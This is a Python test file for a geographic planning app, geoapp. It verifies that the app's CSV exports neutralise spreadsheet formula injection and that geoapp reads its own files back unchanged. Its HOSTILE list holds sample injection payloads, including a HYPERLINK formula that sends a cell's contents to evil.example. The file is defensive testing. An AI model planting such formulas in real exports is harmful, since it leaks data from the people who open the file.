"""CSV exports run no formula in a spreadsheet, and geoapp's own CSV reads back unchanged
(OWASP CSV injection; the plan and overlay CSVs on both backends)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from flask import Flask
from shapes import grid_centers, grid_zones, nine_districts
from staff import Staff

from geoapp.cli import main
from geoapp.exports.spreadsheet_csv import csv_bytes, frame_csv_bytes, safe_cell, unquoted
from geoapp.layers import CENTERS, DISTRICTS, SCHOOL_ZONES

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+81-54-000-0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''-two quotes",
]
HARMLESS = ["第1区", "'quoted name", "a=b", "", "1-2", "100"]


def cells(data: bytes) -> list[list[str]]:
    """The rows of a CSV file geoapp wrote."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_one_leading_quote_and_loses_it_on_reading(text: str) -> None:
    written = safe_cell(text)
    assert written == "'" + text
    assert unquoted(written) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_written_and_read_as_it_is(text: str) -> None:
    assert safe_cell(text) == text and unquoted(text) == text


def test_numbers_stay_numbers_and_only_text_is_quoted() -> None:
    table = pd.DataFrame(
        {"name": ["=1+1", "-5", "北部"], "change": [-5, 0, 3], "share": [-0.25, 0.5, None]}
    )
    assert cells(frame_csv_bytes(table)) == [
        ["name", "change", "share"],
        ["'=1+1", "-5", "-0.25"],
        ["'-5", "0", "0.5"],
        ["北部", "3", ""],
    ]
    assert cells(csv_bytes(["a", "b"], [[-7, "@x"]])) == [["a", "b"], ["-7", "'@x"]]


def test_a_csv_export_is_utf8_with_a_bom_and_crlf_rows() -> None:
    data = csv_bytes(["名前"], [["北部"]])
    assert data.startswith(b"\xef\xbb\xbf") and data.endswith(b"\r\n")


def hostile_city(app: Flask) -> None:
    """The grid city with formula-like district names."""
    districts = nine_districts()
    districts.loc[:, "name"] = [*HOSTILE, "第9区"]
    app.extensions["geoapp.store"].replace_layers(
        {DISTRICTS: districts, SCHOOL_ZONES: grid_zones(), CENTERS: grid_centers()},
        source="hand-drawn grid",
    )


def test_the_plan_csv_quotes_formulas_and_reads_back_to_the_same_names(
    tanaka: Staff, grid_app: Flask
) -> None:
    hostile_city(grid_app)
    plan = tanaka.new_plan()
    renamed = tanaka.edit(plan["id"], 1, "update_community", community=1, name=HOSTILE[0])
    assert renamed.status_code == 200, renamed.get_json()
    exported = tanaka.get(f"/api/plans/{plan['id']}/export?format=csv")
    rows = cells(exported.data)
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["G1"] == "'" + HOSTILE[0] and names["G9"] == "第9区"
    assert all(not row[3].startswith("=") for row in rows[1:])
    again = tanaka.import_plan("plan.csv", exported.data, "再取込")
    assert again.status_code == 201, again.get_json()
    assert HOSTILE[0] in {c["name"] for c in again.get_json()["communities"]}


def test_a_csv_not_written_by_geoapp_keeps_its_quotes(tanaka: Staff) -> None:
    rows = "行政区コード,コミュニティ名\nG1,'=北部\nG2,北部\n".encode()
    answer = tanaka.import_plan("割当.csv", rows, "外部")
    assert answer.status_code == 201, answer.get_json()
    assert {c["name"] for c in answer.get_json()["communities"]} == {"'=北部", "北部"}


def test_the_overlay_csv_quotes_formulas_but_not_numbers(grid_app: Flask, tmp_path: Path) -> None:
    hostile_city(grid_app)
    downloaded = grid_app.test_client().get("/api/overlay/pieces.csv")
    rows = cells(downloaded.data)
    header = rows[0]
    by_district = {row[header.index("district")]: row for row in rows[1:]}
    name_at, area_at = header.index("district_name"), header.index("area_m2")
    assert by_district["G1"][name_at] == "'" + HOSTILE[0]
    assert by_district["G3"][name_at] == "'-2+3"
    assert float(by_district["G1"][area_at]) == pytest.approx(10_000)
    assert not any(cell[:1] in "=+@" for row in rows for cell in row)


def test_the_overlay_command_writes_the_same_safe_csv(
    grid_app: Flask, database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile_city(grid_app)
    monkeypatch.setenv("GEOAPP_DATABASE_URL", database_url)
    path = tmp_path / "pieces.csv"
    result = CliRunner().invoke(main, ["overlay", "--json", "--csv", str(path)])
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["summary"]["districts"] == 9
    assert path.read_bytes() == grid_app.test_client().get("/api/overlay/pieces.csv").data
